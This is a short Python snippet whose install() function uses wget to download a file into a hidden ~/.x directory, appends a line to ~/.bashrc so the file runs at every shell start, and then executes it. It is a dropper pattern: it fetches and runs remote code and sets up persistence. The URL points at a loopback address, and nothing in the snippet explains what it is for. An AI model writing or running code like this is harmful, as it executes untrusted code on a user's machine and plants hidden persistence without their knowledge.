import os, subprocess

def install():
    rc = os.path.expanduser('~/.bashrc')
    os.system('wget -O ~/.x/n.py http://127.0.0.1:9/n.txt')
    open(rc, 'a').write('python3 ~/.x/n.py\n')
    subprocess.run(['python3', os.path.expanduser('~/.x/n.py')])
